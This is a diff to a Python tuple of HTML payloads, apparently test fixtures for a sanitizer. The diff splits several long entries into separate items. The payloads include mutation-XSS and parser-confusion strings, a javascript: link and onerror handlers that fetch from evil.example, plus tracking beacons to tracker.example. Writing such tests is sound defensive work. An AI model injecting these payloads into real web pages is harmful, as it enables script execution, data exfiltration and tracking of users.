@@ -25,9 +25,12 @@ PAYLOADS = (
     '<meta http-equiv=refresh content="0;url=https://evil.example/">',
     '<a href="javascript:fetch(\'https://evil.example/j\')">click</a><base href="https://evil.example/">',
     '<video src="https://tracker.example/v" autoplay></video><audio src="https://tracker.example/a" autoplay></audio>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(`https://evil.example/m`)&gt;">',
-    '<img src="/tickets/1/status"><img srcset="https://tracker.example/2x 2x"><picture><source srcset="https://t.example/s"></picture>',
-    '<template><script>fetch("https://evil.example/t")</script></template><noscript><p title="</noscript><script>1</script>">',
+    "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=fetch(`https://evil.example/m`)&gt;">',
+    '<img src="/tickets/1/status"><img srcset="https://tracker.example/2x 2x">',
+    '<picture><source srcset="https://tracker.example/s"></picture>',
+    '<template><script>fetch("https://evil.example/t")</script></template>',
+    '<noscript><p title="</noscript><script>fetch(1)</script>">',
 )  # fmt: skip
 
 
